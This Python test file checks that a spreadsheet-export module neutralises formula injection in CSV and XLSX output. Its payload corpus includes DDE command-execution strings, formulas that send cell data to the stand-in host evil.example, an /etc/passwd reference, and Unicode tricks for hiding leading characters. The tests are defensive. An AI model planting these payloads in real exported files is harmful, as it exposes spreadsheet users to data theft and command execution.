"""Nothing that somebody typed becomes a formula in a file that we write."""

from __future__ import annotations

import csv
import io
import re
import unicodedata
import zipfile
from datetime import UTC, date, datetime
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from core import cells

# What the field knows of: OWASP "CSV Injection", Excel's DDE, LibreOffice's WEBSERVICE, Google's IMPORTXML …
_PAYLOADS = (
    "=1+1",
    "=cmd|'/C calc'!A0",
    '=HYPERLINK("http://evil.example/?"&A1,"open")',
    '=WEBSERVICE("http://evil.example/"&B2)',
    '=IMPORTXML("http://evil.example","//a")',
    '=DDE("cmd","/C calc","x")',
    "=2+5+cmd|' /C calc'!A0",
    "='file:///etc/passwd'#$passwd.A1",
    "=IF(1,cmd|'/c calc'!A0,0)",
    "=rundll32|'URL.dll,OpenURL calc.exe'!A",
)
_STARTS = ("=", "+", "-", "@", "|", "%", "\t", "\r", "\n", "\0")
_WIDE = ("＝", "＋", "－", "＠", "｜", "％", "﹦", "﹢", "﹣", "﹫", "﹪", "−")
_HIDDEN = (
    " ",
    "  ",
    "\ufeff",
    "\u200b",
    "\u200e",
    "\u00a0",
    "\u3000",
    "\u2060",
    "\u00ad",
    "\x01",
    "\x1f",
    "\u2028",
    "\u180e",
    "\u2800",
    "\u3164",
    "\ufe0f",
    "\u202e",
    "\x00",
    "\x0b",
    "\x85",
)
CORPUS = (
    *_PAYLOADS,
    *(f"{start}SUM(A1:A9)" for start in _STARTS),
    *(f"{start}{payload[1:]}" for start in ("+", "-", "@") for payload in _PAYLOADS[:6]),
    *(f"{start}1+1" for start in _WIDE),
    *(f"{blank}=1+1" for blank in _HIDDEN),
    *(f"{blank}@SUM(1)" for blank in _HIDDEN),
    *_STARTS,
)
LIVE = re.compile(r"[=+\-@|%−\t\r\n\0]")
LIVE_TEXT = {"\t", "\r", "\n", "\0"}


def _first_shown(text: str) -> str:
    """An oracle of its own: what is left of the start when all that shows nothing is taken away."""
    shown = "".join(
        character
        for character in text
        if unicodedata.category(character) not in {"Cc", "Cf", "Zs", "Zl", "Zp", "Mn"}
        and character not in "\u2800\u3164"
    )
    return unicodedata.normalize("NFKC", shown)[:1]


def _is_live(text: str) -> bool:
    return bool(text) and (text[0] in LIVE_TEXT or bool(LIVE.match(_first_shown(text))))


def test_the_corpus_is_a_hundred_live_strings_without_the_guard():
    assert len(CORPUS) >= 100
    assert len(set(CORPUS)) == len(CORPUS)
    assert [text for text in CORPUS if not _is_live(text)] == []


def test_no_string_of_the_corpus_is_live_in_a_csv_file():
    written = cells.write_csv(CORPUS[:3], [[text, f'"{text}', text] for text in CORPUS])

    read = list(csv.reader(io.StringIO(written.decode("utf-8-sig"), newline="")))
    assert [cell for row in read for cell in row if _is_live(cell)] == []
    assert len(read) == len(CORPUS) + 1
    assert {len(row) for row in read} == {3}


def test_no_string_of_the_corpus_is_live_in_a_workbook():
    sheet = cells.Sheet("All", CORPUS[:3], [[text] for text in CORPUS])

    written = cells.write_xlsx([sheet])

    with zipfile.ZipFile(io.BytesIO(written)) as container:
        raw = container.read("xl/worksheets/sheet1.xml").decode()
    shown = [row[0].value for row in load_workbook(io.BytesIO(written))["All"].iter_rows(min_row=2)]
    assert "<f>" not in raw
    assert "<f " not in raw
    assert 't="n"' not in raw
    assert len(shown) == len(CORPUS)
    assert [text for text in shown if _is_live(text)] == []


@pytest.mark.parametrize("text", ["王小明", "3年2班", "a=b", "x-y", "138 0013 8000", "", "“quoted”", "100%"])
def test_ordinary_words_stay_as_they_are(text):
    assert cells.safe(text) == text


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        (None, ""),
        (-3, -3),
        (Decimal("-1.5"), Decimal("-1.5")),
        (True, "True"),
        (date(2026, 9, 1), "2026-09-01"),
        (datetime(2026, 9, 1, 0, 0, tzinfo=UTC), "2026-09-01 08:00:00"),
    ],
)
def test_numbers_stay_numbers_and_dates_are_local_text(value, cell):
    assert cells.safe(value) == cell


def test_a_text_longer_than_a_cell_is_cut():
    assert len(str(cells.safe("=" + "x" * 40_000))) == 32_767
